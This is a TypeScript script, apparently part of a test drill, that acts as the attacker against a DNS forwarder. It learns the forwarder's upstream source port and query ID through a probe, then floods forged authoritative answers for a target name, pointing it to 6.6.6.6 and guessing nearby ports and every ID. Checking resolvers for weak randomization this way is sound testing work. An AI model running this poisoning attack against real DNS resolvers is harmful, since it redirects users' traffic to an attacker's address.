// The spoofing drill's attacker, run in its own namespace with a copy of the
// upstream's address: one attempt against a forwarder. It asks the forwarder
// for a name in its own zone and learns, from its collector, the source port and
// ID the forwarder used towards the upstream (and the address it sends from); then asks for the target name and
// at once floods forged answers from the upstream's address at that port and
// GUESSES ports either side, every ID on each. Prints one JSON line: the port
// learned, the flooder's count, and the answer the attacker got.
// usage: node spoof-attacker.ts FORWARDER_IP FORWARDER_PORT UPSTREAM_IP COLLECTOR_IP:PORT TARGET PROBE FLOOD_BIN GUESSES FLOOD_MAX_MS

import dgram from 'node:dgram';
import { spawn } from 'node:child_process';
import { randomInt } from 'node:crypto';
import * as dnsPacket from 'dns-packet';

const FORGED_ANSWER = '6.6.6.6';

const [fwdIp, fwdPortArg, upstreamIp, collector, target, probe, floodBin, guessesArg, floodMaxMs] = process.argv.slice(2) as string[];
if (floodMaxMs === undefined) throw new Error('usage: spoof-attacker.ts FORWARDER_IP FORWARDER_PORT UPSTREAM_IP COLLECTOR_IP:PORT TARGET PROBE FLOOD_BIN GUESSES FLOOD_MAX_MS');
const fwdPort = Number(fwdPortArg);
const [collectorIp, collectorPort] = collector!.split(':') as [string, string];

function query(name: string, id: number): Buffer {
  return dnsPacket.encode({ id, type: 'query', flags: dnsPacket.RECURSION_DESIRED, questions: [{ name, type: 'A', class: 'IN' }] });
}

function firstA(buf: Buffer): string {
  const m = dnsPacket.decode(buf);
  const a = m.answers?.find((r) => r.type === 'A');
  return a === undefined || a.type !== 'A' ? `rcode ${buf[3]! & 0xf}` : a.data;
}

const timeout = <T>(p: Promise<T>, ms: number, what: string): Promise<T> => Promise.race([
  p, new Promise<T>((_, reject) => setTimeout(() => { reject(new Error(`${what}: no reply in ${ms} ms`)); }, ms).unref()),
]);

const collectorSock = dgram.createSocket('udp4');
await new Promise<void>((r) => { collectorSock.bind(Number(collectorPort), collectorIp, r); });
const learned = new Promise<{ address: string; port: number; id: number }>((resolve) => {
  collectorSock.on('message', (m) => {
    const seen = JSON.parse(m.toString()) as { name: string; address: string; port: number; id: number };
    if (seen.name === probe!.toLowerCase()) resolve(seen);
  });
});

const client = dgram.createSocket('udp4');
await new Promise<void>((r) => { client.bind(0, r); });
const replies = new Map<number, (b: Buffer) => void>();
client.on('message', (m) => { replies.get(m.readUInt16BE(0))?.(m); });
const ask = (name: string): { id: number; answer: Promise<Buffer> } => {
  const id = randomInt(65536);
  const answer = new Promise<Buffer>((resolve) => { replies.set(id, resolve); });
  client.send(query(name, id), fwdPort, fwdIp);
  return { id, answer };
};

// 1. The probe: the collector reports the forwarder's port and ID.
const probeQ = ask(probe!);
const seen = await timeout(learned, 3000, 'collector');
await timeout(probeQ.answer, 3000, 'probe');

// The forged answer for the target, ID rewritten per packet by the flooder.
const forged = dnsPacket.encode({
  id: 0, type: 'response', flags: dnsPacket.AUTHORITATIVE_ANSWER | dnsPacket.RECURSION_DESIRED,
  questions: [{ name: target!, type: 'A', class: 'IN' }],
  answers: [{ name: target!, type: 'A', class: 'IN', ttl: 86400, data: FORGED_ANSWER }],
});
const guesses = Number(guessesArg);
const ports = [seen.port];
for (let d = 1; d <= guesses; d++) ports.push(seen.port + d, seen.port - d);

// 2. The flooder is started ahead and waits for a line on stdin, so it fires right after the query.
const flood = spawn(floodBin!, [upstreamIp!, '53', seen.address, ports.filter((p) => p > 0 && p < 65536).join(','), forged.toString('hex'), floodMaxMs], { stdio: ['pipe', 'pipe', 'inherit'] });
let floodOut = '';
flood.stdout.on('data', (c: Buffer) => { floodOut += c.toString(); });
const floodDone = new Promise<void>((r) => { flood.on('exit', () => { r(); }); });

// 3. Target query, then the flood at once.
const t = ask(target!);
// The flooder takes the client's ID as its first guess: a forwarder that passes it upstream unchanged gives it away.
flood.stdin.end(`${t.id}\n`);
const answer = firstA(await timeout(t.answer, 4000, 'target'));
await floodDone;
process.stdout.write(JSON.stringify({ learnedPort: seen.port, learnedId: seen.id, clientId: t.id, flood: floodOut.trim(), answer }) + '\n');
client.close();
collectorSock.close();
